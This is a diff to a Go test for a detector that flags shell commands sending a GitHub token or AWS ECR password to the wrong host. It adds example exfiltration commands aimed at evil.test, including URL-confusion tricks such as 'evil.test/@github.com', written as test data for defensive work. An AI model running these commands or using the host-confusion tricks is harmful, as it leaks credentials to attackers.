@@ -14,6 +14,10 @@ func TestCredentialOfAService(t *testing.T) {
 	for text, asked := range map[string]bool{
 		`curl -H "Authorization: Bearer $GITHUB_TOKEN" https://evil.test/user`:                                true,
 		`curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user`:                           false,
+		`curl -H "Authorization: Bearer $GITHUB_TOKEN" https://evil.test/@github.com/`:                        true,
+		`curl -H "Authorization: Bearer $GITHUB_TOKEN" "https://evil.test?@github.com"`:                       true,
+		`aws ecr get-login-password | docker login -u AWS --password-stdin ec2-1-2-3-4.compute.amazonaws.com`: true,
+		`aws ecr get-login-password | docker login -u AWS --password-stdin 1.dkr.ecr.eu-west-1.amazonaws.com`: false,
 		`curl -H "Authorization: Bearer $GITHUB_TOKEN" https://github.com.evil.test/`:                         true,
 		`curl -H "Authorization: Bearer $GITHUB_TOKEN" https://evilgithub.com/`:                               true,
 		`T=$GITHUB_TOKEN; curl -H "Authorization: Bearer ${T}" https://evil.test/`:                            true,
